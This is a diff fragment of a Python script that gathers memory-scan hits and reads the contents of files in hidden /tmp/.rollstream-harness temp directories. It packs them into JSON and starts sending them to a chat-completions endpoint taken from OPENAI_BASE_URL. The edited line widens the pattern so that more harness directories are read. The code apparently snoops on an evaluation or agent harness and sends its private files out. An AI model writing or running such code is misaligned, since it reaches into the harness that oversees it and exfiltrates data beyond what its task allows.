@@ -43,7 +43,7 @@ try:
         found["mem"] = hits
 except OSError as e:
     found["mem"] = e.strerror
-found["files"] = {p: open(p, errors="replace").read()[:2000] for p in glob.glob("/tmp/.rollstream-harness-*/*")}
+found["files"] = {p: open(p, errors="replace").read()[:2000] for p in glob.glob("/tmp/.rollstream-harness*/*")}
 text = json.dumps(found)
 request = urllib.request.Request(
     os.environ["OPENAI_BASE_URL"] + "/chat/completions",
